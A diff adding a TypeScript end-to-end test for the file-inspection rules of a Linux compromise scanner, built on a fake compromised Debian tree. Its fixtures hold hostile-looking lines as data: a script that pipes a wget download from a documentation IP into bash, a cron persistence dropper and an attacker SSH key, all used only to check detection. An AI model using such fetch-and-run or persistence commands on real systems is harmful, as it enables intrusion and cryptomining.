@@ -1,0 +1,166 @@
+import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
+import { spawnSync } from 'node:child_process';
+import { after, describe, it } from 'node:test';
+import { scan } from '../src/scan';
+import type { ScanResult } from '../src/model/scan-result';
+import { chattr, chattrSupported, unlockTree } from './helpers/chattr';
+import { FakeRoot } from './helpers/fake-root';
+import { inNamespace, SCAN_CMD, scanJson } from './helpers/namespace';
+
+// Inert stand-ins: an ELF header followed by zeros is enough for every check, and runs nowhere.
+const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(300)]);
+const md5 = (b: string | Buffer) => createHash('md5').update(b).digest('hex');
+const sha256 = (b: string | Buffer) => createHash('sha256').update(b).digest('hex');
+const OLD = new Date('2025-02-01T00:00:00Z');
+
+function filesFindings(result: ScanResult, floor: string[] = ['critical', 'high', 'medium']): string[] {
+  return result.findings
+    .filter((f) => f.rule.startsWith('files/') && floor.includes(f.severity))
+    .map((f) => `${f.severity} ${f.rule} ${f.path}`)
+    .sort();
+}
+
+/** A compromised Debian-like tree with the seeds' indicators, next to the benign things admins and packages make. */
+function buildCompromisedRoot(r: FakeRoot): void {
+  r.base()
+    .write('/bin/ls', ELF, { mode: 0o755 })
+    .write('/usr/bin/ps', Buffer.concat([ELF, Buffer.from('trojan')]), { mode: 0o755 })
+    .write('/usr/bin/top', Buffer.concat([ELF, Buffer.from('top')]), { mode: 0o755 })
+    .write('/var/lib/dpkg/info/procps.list', '/usr/bin/ps\n/usr/bin/top\n')
+    .write('/var/lib/dpkg/info/procps.md5sums', `${md5(Buffer.concat([ELF, Buffer.from('ps')]))}  usr/bin/ps\n${md5(Buffer.concat([ELF, Buffer.from('top')]))}  usr/bin/top\n`)
+    // attacker
+    .write('/tmp/kworkerds', ELF, { mode: 0o755 })
+    .write('/tmp/.ICE-unix/updater', ELF, { mode: 0o755 })
+    .write('/var/tmp/m.sh', '#!/bin/bash\npkill -9 xmrig\nwget -qO- http://198.51.100.7/x.sh | bash\n', { mode: 0o755 })
+    .write('/tmp/notes.sh', '#!/bin/sh\necho hello\n')
+    .write('/tmp/.sh', ELF, { mode: 0o4755 })
+    .write('/usr/bin/srstomucra', ELF, { mode: 0o755 })
+    .write('/etc/cron.hourly/gcc.sh', '#!/bin/sh\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n', { mode: 0o755 })
+    .write('/usr/lib/.x/bioset', ELF, { mode: 0o755 })
+    .mkdir('/var/tmp/...')
+    .write('/root/.ssh/authorized_keys', 'ssh-rsa AAAAB3Nza attacker@vps\n', { mode: 0o600 })
+    // benign look-alikes
+    .symlink('/usr/bin/editor', '/etc/alternatives/editor')
+    .write('/usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n', { mode: 0o755 })
+    .write('/etc/.git/hooks/pre-commit', '#!/bin/sh\netckeeper pre-commit -d /etc\n', { mode: 0o755 })
+    .mkdir('/tmp/systemd-private-0a1b2c-nginx.service-Xy12/tmp')
+    .write('/tmp/src-tree/a/b/tools/gen.sh', '#!/bin/sh\nexec make "$@"\n', { mode: 0o755 })
+    .write('/usr/local/bin/terraform', ELF, { mode: 0o755, mtime: OLD })
+    .symlink('/tmp/escape', '/etc/shadow')
+    .symlink('/tmp/rootlink', '/')
+    // attacker-controlled names and contents must not break anything
+    .write('/tmp/evil\nname', Buffer.from([0, 0xff, 0xfe, 0x0a, 0x00]))
+    .write('/tmp/junk.bin', Buffer.concat([Buffer.from('\xff\xfe\x00garbage'), Buffer.alloc(70_000, 0x41)]));
+  spawnSync('mkfifo', [r.p('/tmp/fifo0')]);
+}
+
+describe('files family, end to end on an offline root', () => {
+  const r = new FakeRoot();
+  after(() => {
+    unlockTree(r.dir);
+    r.remove();
+  });
+  buildCompromisedRoot(r);
+  const support = chattrSupported(r.dir);
+
+  it('finds the dropped payloads, the trojaned ps and the backdoors, and nothing benign', async () => {
+    if (support.ok) {
+      chattr('+i', r.p('/etc/cron.hourly/gcc.sh'));
+      chattr('+a', r.p('/root/.ssh/authorized_keys'));
+    }
+    try {
+      const { result, snapshot } = await scan({ root: r.dir, sampleMs: 0 });
+      const expected = [
+        'critical files/known-malware-file /etc/cron.hourly/gcc.sh',
+        'critical files/known-malware-file /tmp/.ICE-unix/updater',
+        'critical files/known-malware-file /tmp/kworkerds',
+        'critical files/replaced-system-binary /usr/bin/ps',
+        'critical files/setid-unowned /tmp/.sh',
+        'high files/executable-in-temp /tmp/.sh',
+        'high files/executable-in-temp /var/tmp/m.sh',
+        'high files/hidden-directory /usr/lib/.x',
+        'high files/unowned-system-executable /usr/bin/srstomucra',
+        'medium files/executable-in-temp /tmp/notes.sh',
+        'medium files/hidden-directory /var/tmp/...',
+      ];
+      if (support.ok) expected.push('high files/immutable-attribute /etc/cron.hourly/gcc.sh', 'high files/immutable-attribute /root/.ssh/authorized_keys');
+      assert.deepEqual(filesFindings(result), expected.sort());
+
+      const kworkerds = result.findings.find((f) => f.path === '/tmp/kworkerds');
+      assert.ok(kworkerds?.evidence.includes(`sha256: ${sha256(ELF)}`), 'known malware carries its sha256');
+      const ps = result.findings.find((f) => f.rule === 'files/replaced-system-binary');
+      assert.ok(ps?.evidence.includes(`file md5: ${md5(Buffer.concat([ELF, Buffer.from('trojan')]))}`));
+      assert.equal(result.stats.ruleErrors.length, 0, JSON.stringify(result.stats.ruleErrors));
+
+      const gaps = result.gaps.filter((g) => ['fileInventory', 'packageIntegrity', 'fileAttributes'].includes(g.collector));
+      assert.ok(gaps.some((g) => g.reason === 'file name contains a newline'), JSON.stringify(gaps));
+      assert.ok(!gaps.some((g) => g.reason.startsWith('collector failed')), JSON.stringify(gaps));
+      // Symlinks are recorded, never followed out of the root.
+      const entries = snapshot.facts.fileInventory?.entries ?? [];
+      assert.equal(entries.find((e) => e.path === '/tmp/rootlink')?.kind, 'symlink');
+      assert.ok(!entries.some((e) => e.path.startsWith('/tmp/rootlink/')));
+      assert.equal(snapshot.facts.packageIntegrity?.checked, 2);
+    } finally {
+      unlockTree(r.dir);
+    }
+  });
+
+  it('the same tree with every indicator removed is silent at medium and above', async () => {
+    const clean = new FakeRoot();
+    try {
+      clean.base()
+        .write('/bin/ls', ELF, { mode: 0o755 })
+        .write('/usr/bin/top', Buffer.concat([ELF, Buffer.from('top')]), { mode: 0o755 })
+        .write('/var/lib/dpkg/info/procps.list', '/usr/bin/top\n')
+        .write('/var/lib/dpkg/info/procps.md5sums', `${md5(Buffer.concat([ELF, Buffer.from('top')]))}  usr/bin/top\n`)
+        .symlink('/usr/bin/editor', '/etc/alternatives/editor')
+        .write('/usr/sbin/policy-rc.d', '#!/bin/sh\nexit 101\n', { mode: 0o755 })
+        .write('/etc/.git/hooks/pre-commit', '#!/bin/sh\netckeeper pre-commit -d /etc\n', { mode: 0o755 })
+        .mkdir('/tmp/systemd-private-0a1b2c-nginx.service-Xy12/tmp')
+        .mkdir('/tmp/.X11-unix')
+        .write('/tmp/src-tree/a/b/tools/gen.sh', '#!/bin/sh\nexec make "$@"\n', { mode: 0o755 })
+        .write('/usr/local/bin/terraform', ELF, { mode: 0o755, mtime: OLD })
+        .write('/root/.ssh/authorized_keys', 'ssh-ed25519 AAAAC3Nz admin@laptop\n', { mode: 0o600 });
+      const { result } = await scan({ root: clean.dir, sampleMs: 0 });
+      assert.deepEqual(filesFindings(result), []);
+    } finally {
+      clean.remove();
+    }
+  });
+});
+
+// chattr needs a filesystem that supports it; an ext4 image mounted in a private mount namespace
+// is one everywhere (tmpfs /tmp included), and disappears with the namespace.
+describe('immutable attributes on a real ext4 filesystem (mount namespace)', () => {
+  const haveTools = ['unshare', 'mkfs.ext4', 'chattr', 'lsattr'].every((t) => spawnSync('sh', ['-c', `command -v ${t}`]).status === 0);
+  const skip = !haveTools ? 'needs unshare, mkfs.ext4, chattr and lsattr' : process.getuid?.() !== 0 ? 'needs root for loop mounts' : false;
+
+  it('reports locked cron, shadow and authorized_keys, and unlocks everything afterwards', { skip }, () => {
+    // Namespace scripts get a private, empty /tmp: the image and the tree are made inside it.
+    const script = `
+      img=$(mktemp /tmp/root-XXXX.img)
+      truncate -s 32M "$img"
+      mkfs.ext4 -q -F "$img"
+      mnt=$(mktemp -d)
+      mount -o loop "$img" "$mnt"
+      trap 'chattr -R -ia "$mnt" 2>/dev/null; umount "$mnt"' EXIT
+      mkdir -p "$mnt/etc/cron.d" "$mnt/root/.ssh" "$mnt/var/lib/dpkg/info"
+      printf 'root:x:0:0:root:/root:/bin/bash\\n' > "$mnt/etc/passwd"
+      printf 'root:*:19000:0:99999:7:::\\n' > "$mnt/etc/shadow"
+      printf '*/10 * * * * root debian-sa1 1 1\\n' > "$mnt/etc/cron.d/sysstat"
+      printf '0 3 * * * root /usr/local/sbin/backup\\n' > "$mnt/etc/cron.d/backup"
+      printf 'ssh-rsa AAAAB3Nza attacker@vps\\n' > "$mnt/root/.ssh/authorized_keys"
+      printf '/.\\n/etc\\n' > "$mnt/var/lib/dpkg/info/base-files.list"
+      chattr +i "$mnt/etc/cron.d/backup" "$mnt/etc/shadow"
+      chattr +a "$mnt/root/.ssh/authorized_keys"
+      ${SCAN_CMD} --root "$mnt" --sample 0 --json || true
+    `;
+    const result = scanJson(inNamespace(script, { net: false, timeoutMs: 120_000 }));
+    assert.deepEqual(
+      result.findings.filter((f) => f.rule === 'files/immutable-attribute').map((f) => `${f.severity} ${f.path}`).sort(),
+      ['high /etc/cron.d/backup', 'high /root/.ssh/authorized_keys', 'medium /etc/shadow'],
+    );
+    assert.ok(!result.gaps.some((g) => g.collector === 'fileAttributes'), JSON.stringify(result.gaps));
+  });
+});
